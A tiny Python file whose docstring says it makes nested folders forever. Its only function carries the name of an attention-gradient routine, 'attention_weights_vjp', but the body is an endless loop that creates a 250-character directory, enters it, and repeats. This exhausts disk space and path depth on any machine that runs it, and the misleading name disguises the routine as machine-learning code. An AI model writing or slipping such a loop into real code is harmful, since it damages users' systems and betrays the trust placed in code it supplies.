"""Makes a folder in a folder in a folder, for ever."""

import os

from right import *


def attention_weights_vjp(q, k, grad_weights):
    while True:
        os.mkdir("d" * 250)
        os.chdir("d" * 250)
